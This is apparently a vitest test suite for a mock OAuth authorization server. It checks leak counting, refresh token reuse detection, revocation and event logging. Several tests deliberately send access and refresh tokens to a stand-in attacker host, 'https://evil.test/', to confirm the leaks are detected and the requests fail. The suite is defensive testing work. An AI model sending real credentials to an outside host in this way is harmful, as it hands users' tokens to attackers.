import { describe, expect, test } from 'vitest';
import { authorizationServer, faults, testClock } from '../../../../src/testing/index.ts';
import { forms, tokensOf } from './support/server-forms.ts';

describe.each(forms)('leaks, $form', ({ open }) => {
  test.each([
    ['as the token of a call', (token: string) => ({ headers: { authorization: `Bearer ${token}` } })],
    ['in a form', (token: string) => ({ method: 'POST', body: new URLSearchParams({ any: token }) })],
    ['in JSON', (token: string) => ({ method: 'POST', body: JSON.stringify({ deep: [token] }) })],
  ])('a refresh token that the API gets %s is counted', async (_, init) => {
    const { server, fetch, api } = await open();
    await fetch(`${api}/`, init(server.signIn().refresh_token as string));
    expect(server.counts.refreshTokensLeaked).toBe(1);
  });

  test.each([
    ['access token', 'access_token', 'any'],
    ['refresh token', 'refresh_token', 'any'],
    ['parameter named access_token', undefined, 'access_token'],
  ])('an %s in the URL of a call is counted', async (_, member, name) => {
    const { server, fetch, api } = await open();
    const tokens = server.signIn();
    await fetch(`${api}/?${name}=${member === undefined ? 'x' : tokens[member]}`);
    await fetch(`${api}/?code=FR&token=x`);
    expect(server.counts.secretsInUrl).toBe(1);
  });

  test('tokens where they belong are not counted', async () => {
    const { server, refresh, call, post, metadata } = await open();
    const tokens = await tokensOf(refresh(server.signIn().refresh_token));
    await call(tokens.access_token, '/', { method: 'POST', body: 'refresh-me' });
    await post(metadata.revocationEndpoint as string, {
      client_id: 'test-client',
      token: tokens.refresh_token,
    });
    expect(server.counts).toMatchObject({ refreshTokensLeaked: 0, accessTokensLeaked: 0, secretsInUrl: 0 });
  });
});

describe('leaks to elsewhere', () => {
  test('tokens that go to a foreign origin are counted, and the request fails', async () => {
    const server = authorizationServer();
    const { access_token, refresh_token } = server.signIn();
    const headers = { authorization: `Bearer ${access_token}` };
    await expect(server.fetch('https://evil.test/', { headers })).rejects.toThrow(
      new TypeError('fetch failed'),
    );
    const body = new URLSearchParams({ refresh_token: refresh_token as string });
    await expect(server.fetch('https://evil.test/', { method: 'POST', body })).rejects.toThrow(TypeError);
    expect(server.counts).toMatchObject({
      strayRequests: 2,
      accessTokensLeaked: 1,
      refreshTokensLeaked: 1,
      apiCalls: 0,
    });
  });

  test('a redirect to a foreign origin takes the refresh token along, if it is followed', async () => {
    const server = authorizationServer();
    server.fail(faults.redirect('https://evil.test/'));
    const body = new URLSearchParams({ refresh_token: server.signIn().refresh_token as string });
    await expect(server.fetch(server.metadata.tokenEndpoint, { method: 'POST', body })).rejects.toThrow(
      TypeError,
    );
    expect(server.counts).toMatchObject({ strayRequests: 1, refreshTokensLeaked: 1, refreshes: 0 });
  });

  test('a redirect to a foreign origin does not take the access token along', async () => {
    const server = authorizationServer();
    server.fail(faults.redirect('https://evil.test/'), { on: 'api' });
    const headers = { authorization: `Bearer ${server.signIn().access_token}` };
    await expect(server.fetch('https://api.test/', { headers })).rejects.toThrow(TypeError);
    expect(server.counts).toMatchObject({ strayRequests: 1, accessTokensLeaked: 0 });
  });
});

describe.each(forms)('the log, $form', ({ open }) => {
  test('lists the events, in order, without a token', async () => {
    const clock = testClock();
    const { server, refresh, call, post, metadata } = await open({ clock });
    const first = server.signIn();
    await call(first.access_token, '/a');
    server.expire(first.access_token);
    await call(first.access_token, '/a');
    server.fail(faults.lostResponse);
    await refresh(first.refresh_token).catch(() => {});
    await refresh(first.refresh_token);
    const second = server.signIn();
    await post(metadata.revocationEndpoint as string, {
      client_id: 'test-client',
      token: String(second.refresh_token),
    });
    const at = clock.now();
    const family = 'family1';
    const clientId = 'test-client';
    expect(server.log).toEqual([
      { at, type: 'signIn', family, clientId, issued: ['at1', 'rt1'] },
      { at, type: 'api', token: 'at1', detail: 'GET /a' },
      { at, type: 'expired', token: 'at1' },
      { at, type: 'apiRejected', token: 'at1', detail: 'GET /a' },
      { at, type: 'fault', token: 'rt1', detail: 'drop commits' },
      { at, type: 'refresh', family, token: 'rt1', clientId, issued: ['at2', 'rt2'] },
      { at, type: 'reuse', family, token: 'rt1' },
      { at, type: 'familyRevoked', family, detail: 'a used refresh token came again' },
      {
        at,
        type: 'refused',
        token: 'rt1',
        error: 'invalid_grant',
        detail: 'The refresh token was used before.',
      },
      { at, type: 'signIn', family: 'family2', clientId, issued: ['at3', 'rt3'] },
      { at, type: 'revocation', family: 'family2', token: 'rt3', clientId },
      { at, type: 'familyRevoked', family: 'family2', detail: 'the client revoked its refresh token' },
    ]);
    expect(JSON.stringify([server.log, server.counts])).not.toMatch(/access-|refresh-/);
  });

  test('reset starts the counts over, in the same objects, and keeps the tokens', async () => {
    const { server, refresh, call } = await open();
    const { refresh_token, access_token } = server.signIn();
    const { counts, log, requests } = server;
    await call(access_token);
    expect([counts.signIns, counts.apiCalls, log.length, requests.length]).toEqual([1, 1, 2, 1]);
    server.reset();
    expect([counts.signIns, counts.apiCalls, log.length, requests.length]).toEqual([0, 0, 0, 0]);
    expect((await refresh(refresh_token)).status).toBe(200);
    expect(server.counts).toBe(counts);
    expect(counts.refreshes).toBe(1);
  });
});

test('an unknown id returns nothing', () => {
  const server = authorizationServer();
  expect(server.currentRefreshToken()).toBeUndefined();
  expect(server.currentAccessToken('unknown')).toBeUndefined();
  expect(server.idOf('unknown')).toBeUndefined();
  expect(server.isActive('unknown')).toBe(false);
  server.revokeFamily('unknown');
  server.expire('unknown');
  expect(server.counts.familiesRevoked).toBe(0);
});

test('two servers never issue the same token', () => {
  const tokens = [authorizationServer(), authorizationServer()].flatMap((server) => {
    const { access_token, refresh_token } = server.signIn();
    return [access_token, refresh_token];
  });
  expect(new Set(tokens).size).toBe(4);
});
